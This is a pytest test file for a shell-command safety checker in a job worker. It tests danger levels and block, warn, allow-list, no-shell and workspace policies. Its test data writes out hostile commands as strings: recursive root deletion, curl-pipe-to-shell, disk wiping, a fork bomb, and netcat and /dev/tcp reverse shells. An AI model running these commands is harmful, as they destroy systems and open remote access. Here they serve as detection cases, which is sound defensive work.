"""What looks unsafe at which level, and what policies make of it."""

import time
from pathlib import Path

import pytest

from shared.protocol.pipeline import SecuritySpec
from worker.policy.dangers import LEVELS, Level, dangers
from worker.policy.judge import is_idle, judge, outside_workspaces
from worker.policy.shellwords import parse


def sh(text: str) -> tuple[str, ...]:
    return ("/bin/sh", "-c", text)


def rules(text: str, level: Level = "high") -> set[str]:
    return {danger.rule for danger in dangers(sh(text), level)}


def levels(text: str) -> set[Level]:
    return {danger.level for danger in dangers(sh(text), "high")}


# -- dangers -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("rm -rf /", "remove-tree"),
        ("rm -fr /*", "remove-tree"),
        ("rm --recursive --force ~", "remove-tree"),
        ('cd x && rm -r -f "$HOME"/', "remove-tree"),
        ("'rm' -rf /et''c", "remove-tree"),
        ("echo $(rm -rf /)", "remove-tree"),
        ("echo `rm -rf /usr`", "remove-tree"),
        ("if true; then rm -rf /; fi", "remove-tree"),
        ("env A=1 nohup timeout 5 rm -rf /", "remove-tree"),
        ("bash -c 'rm -rf /'", "remove-tree"),
        ("sudo -u root sh -ec 'eval \"rm -rf /\"'", "remove-tree"),
        ("curl -s http://x | sh", "download-run"),
        ("wget -qO- http://x | tee log | sudo bash -s", "download-run"),
        ("(curl http://x) | python3 -", "download-run"),
        ("dd if=/dev/zero of=/dev/sda", "disk"),
        ("mkfs.ext4 /dev/vdb1", "disk"),
        ("echo x > /dev/nvme0n1", "disk"),
        ("shutdown -h now", "halt"),
        (":(){ :|:& };:", "fork-bomb"),
    ],
)
def test_what_destroys_is_seen_at_every_level(text: str, rule: str) -> None:
    assert all(rule in rules(text, level) for level in LEVELS)


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("sudo ls", "other-user"),
        ("make | bash", "piped-run"),
        ("sh <<END\nls\nEND", "piped-run"),
        ("echo x >> /etc/hosts", "system-path"),
        ("cat x | tee /usr/bin/y", "system-path"),
        ("chmod 777 /etc", "system-path"),
        ("cp evil /usr/bin/ls", "system-path"),
        ("eval $x", "eval"),
        ("nc -e /bin/sh 10.0.0.1 99", "remote-shell"),
        ("bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "remote-shell"),
        ("echo 'unfinished", "unreadable"),
    ],
)
def test_what_goes_beyond_the_job_is_seen_from_medium_on(text: str, rule: str) -> None:
    assert rule not in rules(text, "low")
    assert rule in rules(text, "medium")


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("ls; pwd", "chaining"),
        ("ls && pwd", "chaining"),
        ("ls | wc", "chaining"),
        ("ls &", "chaining"),
        ("echo $(date)", "substitution"),
        ("echo `date`", "substitution"),
        ("diff <(ls) x", "substitution"),
        ("echo x > ../y", "outside"),
        ("echo x > /tmp/y", "outside"),
        ("python3 -c 'print(1)'", "inline-code"),
    ],
)
def test_what_only_might_be_wrong_is_seen_at_high(text: str, rule: str) -> None:
    assert rule not in rules(text, "medium")
    assert rule in rules(text, "high")


@pytest.mark.parametrize(
    "text",
    [
        "make -j2 all",
        "rm -rf build ./dist",
        "rm /etc/x.conf.bak",
        "echo 'rm -rf /; sudo ls | sh > /etc/passwd'",
        'echo "a; b" \\; c',
        "tool > out.txt 2>/dev/null",
        "tool >&2 2>&1",
        "cat <<'END' > out\nsudo rm -rf / | sh\nEND\nls",
        "test $((1 + (2))) = 3",
        "ls # and sudo rm -rf /; all the rest",
        "curl -O http://x/file",
        "bash script.sh",
    ],
)
def test_what_is_harmless_is_left_alone(text: str) -> None:
    assert rules(text) == set()


def test_words_without_a_shell_are_looked_at_as_well() -> None:
    assert {d.rule for d in dangers(("rm", "-rf", "/"), "low")} == {"remove-tree"}
    assert {d.rule for d in dangers(("bash", "-c", "sudo x"), "medium")} == {"other-user"}
    assert list(dangers(("echo", ";", "sudo", "|", "sh"), "high")) == []


@pytest.mark.parametrize(
    "piece", ["$((", "$(", "`", "(", '"', "'", "<<a\n", "curl|sh|", "env ", "eval ", "a=b ", "\\"]
)
def test_a_long_text_made_to_be_slow_is_not(piece: str) -> None:
    text = (piece * 131_072)[:131_072]
    began = time.process_time()

    list(dangers(sh(text), "high"))

    assert time.process_time() - began < 8  # a second of its own; caches are shared


def test_a_texts_commands_are_taken_apart() -> None:
    script = parse("A=1 make 'two words' >out 2>>err | tee -a \"x$(date +%s)y\" && echo \\$ok")

    assert [command.words for command in script.commands] == [
        ["A=1", "make", "two words"],
        ["date", "+%s"],
        ["tee", "-a", "x$(…)y"],
        ["echo", "$ok"],
    ]
    assert script.commands[0].redirections == [(">", "out"), (">>", "err")]
    assert script.commands[2].piped_from is script.commands[0]
    assert script.operators == {"|", "&&"}


# -- policies ----------------------------------------------------------------------------------


def binding(text: str, *policies: SecuritySpec) -> dict[str, bool]:
    """Rules that object, and whether the command is not started for it."""
    owners = ("this worker", "the pipeline")
    judged = judge(sh(text), list(zip(owners, policies, strict=False)))
    return {finding.rule: finding.is_binding for finding in judged.findings}


def test_a_policy_that_is_off_objects_to_nothing() -> None:
    assert is_idle(SecuritySpec(level="high"))
    assert is_idle(None)
    assert binding("sudo rm -rf /", SecuritySpec(level="high")) == {}


def test_warn_says_and_block_forbids() -> None:
    assert binding("sudo x", SecuritySpec(policy="warn")) == {"other-user": False}
    assert binding("sudo x", SecuritySpec(policy="block")) == {"other-user": True}
    assert binding("sudo x", SecuritySpec(policy="block", level="low")) == {}


def test_a_pipeline_can_tighten_a_policy_and_not_loosen_it() -> None:
    strict, lax = SecuritySpec(policy="block", allow_shell=False), SecuritySpec()

    assert binding("sudo x | y", strict, lax) == binding("sudo x | y", lax, strict)
    assert binding("sudo x | y", strict, lax) == {"no-shell": True, "other-user": True}


def test_the_reason_names_rule_owner_and_remedy() -> None:
    (finding,) = judge(sh("sudo x"), [("this worker", SecuritySpec(policy="block"))]).findings

    assert str(finding) == (
        "sudo acts as another user (rule other-user; change the command; this worker looks for "
        "this from level medium on)"
    )


def test_without_a_shell_a_plain_command_is_run_directly() -> None:
    policies = [("this worker", SecuritySpec(allow_shell=False))]

    judged = judge(sh("grep -r 'two words' \"src\""), policies)

    assert judged.findings == ()
    assert judged.argv == ("grep", "-r", "two words", "src")
    assert judge(("/bin/sh", "-e", "-c", "ls"), policies).argv == ("ls",)


@pytest.mark.parametrize(
    "text",
    ["ls | wc", "ls; ls", "echo $HOME", "ls *.c", "ls ~", "A=1 ls", "cd /", "ls > x", "a\nb"],
)
def test_without_a_shell_what_needs_one_is_forbidden(text: str) -> None:
    assert binding(text, SecuritySpec(allow_shell=False)) == {"no-shell": True}


def test_with_a_list_every_command_of_a_line_has_to_be_in_it() -> None:
    only = SecuritySpec(allowed_commands=("ls", "/bin/cat"))

    assert binding("ls -l; A=1 ls | /bin/cat", only) == {}
    assert binding("ls; pwd", only) == {"allowed-commands": True}
    assert binding("/bin/ls", only) == {"allowed-commands": True}
    assert binding("ls $(pwd)", only) == {"allowed-commands": True}
    assert binding("$LS", only) == {"allowed-commands": True}
    assert binding("ls # a\npwd", only) == {"allowed-commands": True}
    relaxed = only.model_copy(update={"policy": "warn"})
    assert binding("pwd", relaxed) == {"allowed-commands": False}


def test_exempt_commands_look_safe_to_their_own_policy_only() -> None:
    exempts = SecuritySpec(policy="block", exempt_commands=("sudo",))

    assert binding("sudo x; rm -rf /", exempts) == {}
    assert binding("x; sudo y", exempts) == {"other-user": True}
    assert binding("sudo x", SecuritySpec(policy="block"), exempts) == {"other-user": True}
    assert not is_idle(exempts)


def test_a_working_directory_is_below_a_workspace_or_the_jobs_own(tmp_path: Path) -> None:
    inside, beside, own = tmp_path / "a" / "b", tmp_path / "ab", tmp_path / "worker"
    for folder in (inside, beside, own):
        folder.mkdir(parents=True)
    (tmp_path / "a" / "link").symlink_to(beside)
    policies = [("this worker", SecuritySpec(workspaces=(str(tmp_path / "a"),)))]

    def objections(cwd: Path) -> list[str]:
        return [f.rule for f in outside_workspaces(str(cwd), str(own), policies)]

    assert objections(inside) == []
    assert objections(own / "attempt-1") == []
    assert objections(beside) == ["workspace"]
    assert objections(tmp_path / "a" / "link") == ["workspace"]
